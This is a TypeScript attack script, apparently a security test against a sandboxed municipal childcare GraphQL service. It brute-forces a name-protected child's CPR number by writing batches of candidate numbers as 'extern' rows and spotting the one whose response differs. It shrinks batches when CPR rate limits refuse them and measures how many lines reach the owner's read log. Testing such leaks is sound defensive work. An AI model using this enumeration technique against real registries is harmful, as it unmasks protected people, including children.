import { startAttacked, type Target } from './target.ts';

const kommune = '740';
const kilde = 'Pladssystem';
const enhed = 'G10567';

/** The protected child, whose birth date the attacker knows, as many do; and whose number is sought by writing. */
const barn = { fornavn: 'Sigrun', efternavn: 'Mortensen', foedselsdato: '2021-05-06', koen: 'K' };
const cpr = '6605215234';

/** Born after 2000: the seventh digit is 4 or more. Given in an order that has the child's number not among the first. */
const guesses = Array.from({ length: 6000 }, (_, n) => `660521${4000 + n}`);
const rowsInCall = 200;

type Asked = (query: string, variables: object) => Promise<Record<string, Payload> | null>;
interface Payload {
  changes: { id: string | null; slags: string; action: string }[];
  errors: { code: string; path: string[] }[];
}
const told = 'changes { id slags action } errors { code path }';

/** With the limits as they are, and without: then the answers alone stand between the attacker and the number. */
const limits = {
  'as it comes': {},
  'without limits of CPR numbers': { CPR_BIRTHDAY_PER_DAY: '100000', CPR_BIRTHDAY_PER_YEAR: '100000' },
};

/**
 * Who may write people of a municipality, but not see the protected, tries to find a protected child's number by writes
 * that store: externs with one likely number after the other. One whose answer is another than the rest is the child's.
 */
export async function attack(target: Target): Promise<void> {
  for (const [how, settings] of Object.entries(limits)) await attackWith(target, how, settings);
}

async function attackWith(target: Target, how: string, settings: Record<string, string>): Promise<void> {
  const usual = { SAMPLE: 'small', REGISTER_MODE: 'sandbox', ENVIRONMENT: 'development' };
  const attacked = await startAttacked(target, { ...usual, ...settings });
  try {
    const as = async (...roles: string[]): Promise<Asked> => {
      const args = ['token', '--role', ...roles, '--kommune', kommune, '--sub', roles.join()];
      return asker(attacked.url, (await attacked.command(...args)).split('\n').at(-1) ?? '');
    };
    await putChild(await as('kommunal', 'navnebeskyttelse'));
    const owner = await as('databeskyttelse');
    const attacker = await as('kommunal');
    const [before, began] = [await linesOf(owner), performance.now()];
    const { requests, numbers, found } = await guess(attacker);
    const seconds = ((performance.now() - began) / 1000).toFixed(1);
    const lines = (await linesOf(owner)) - before;
    console.log(
      `the CPR number by writes of externs, ${how}: ${found}; ${numbers} numbers taken in ${requests} requests, ${seconds} s, ${lines} lines in the read log`,
    );
  } finally {
    await attacked.stop();
  }
}

interface Outcome {
  requests: number;
  numbers: number;
  found: string;
}

/** Where too many numbers are refused, fewer are given, down to one. */
async function guess(ask: Asked): Promise<Outcome> {
  let [requests, numbers, size] = [0, 0, rowsInCall];
  while (numbers < guesses.length) {
    const given = guesses.slice(numbers, numbers + size);
    const answer = (await ask(write, { rows: given.map(ekstern) }))?.it;
    requests++;
    if (answer?.errors.some(({ code }) => code === 'CPR_LIMIT')) {
      if (size === 1) return { requests, numbers, found: 'stopped by CPR_LIMIT, not found' };
      size = Math.ceil(size / 2);
      continue;
    }
    numbers += given.length;
    const odd = oddRow(answer, given.length);
    if (odd !== null) return { requests, numbers, found: `found: ${given[odd] === cpr}` };
  }
  return { requests, numbers, found: 'not found' };
}

const write = `mutation ($rows: [TilknytningRowInput!]!) {
  it: applyTilknytninger(kilde: "${kilde}", rows: $rows, skipRefused: false) { ${told} } }`;

const ekstern = (number: string) => ({
  ekstern: {
    ...{ enhed, lokalId: `p${number.slice(6)}`, rolle: 'Ekstern' },
    person: { cpr: number, fornavn: 'Xy', efternavn: 'Zzy' },
  },
});

/** The row of which the answer speaks otherwise than of the others: in an error, or since it makes nobody new. */
function oddRow(answer: Payload | undefined, count: number): number | null {
  const [error] = answer?.errors ?? [];
  if (error) return Number(error.path[1]);
  const persons = answer?.changes.filter(({ slags }) => slags === 'person') ?? [];
  const odd = persons.findIndex(({ action }) => action !== 'create');
  return odd >= 0 ? odd : persons.length < count ? persons.length : null;
}

/** Stores the child, as who may see it, and lets the attacker write as its source, where sources have writers. */
async function putChild(ask: Asked): Promise<void> {
  const subjekter = '["kommunal", "kommunal,navnebeskyttelse"]';
  const grant = `mutation { it: setKildeskribenter(input: { kommuneKode: "${kommune}", kilde: "${kilde}", subjekter: ${subjekter} }) { ${told} } }`;
  await ask(grant, {}).catch(() => null);
  const gruppe = { enhed, kode: 'stue', gruppetype: 'Hovedgruppe', trin: 'DT', gyldigFra: '2020-01-01' };
  const tie = { enhed, lokalId: 'B1', rolle: 'Barn', trin: 'DT', hovedgruppe: 'stue' };
  const alias = { beskyttet: true, aliasFornavn: 'Anna', aliasEfternavn: 'Alias' };
  const rows = [{ gruppe }, { barn: { ...tie, person: { cpr, ...barn, ...alias } } }];
  const answer = await ask(write, { rows });
  if (!answer?.it?.changes.some(({ slags }) => slags === 'person'))
    throw new Error(`the child was not stored: ${JSON.stringify(answer)}`);
}

const asker =
  (url: string, token: string): Asked =>
  async (query, variables) => {
    const response = await fetch(`${url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', accept: 'application/json', authorization: `Bearer ${token}` },
      body: JSON.stringify({ query, variables }),
    });
    const { data, errors } = (await response.json()) as { data: Record<string, Payload> | null; errors?: object[] };
    if (!data) throw new Error(JSON.stringify(errors));
    return data;
  };

/** How many lines of the read log are of the attacker, as the data owner is told. */
async function linesOf(owner: Asked): Promise<number> {
  const query = 'query ($w: LaeselogWhere) { laeselog(where: $w, first: 0) { totalCount } }';
  const answer = (await owner(query, { w: { actor: { eq: 'person:kommunal' } } })) as unknown as {
    laeselog: { totalCount: number };
  };
  return answer.laeselog.totalCount;
}
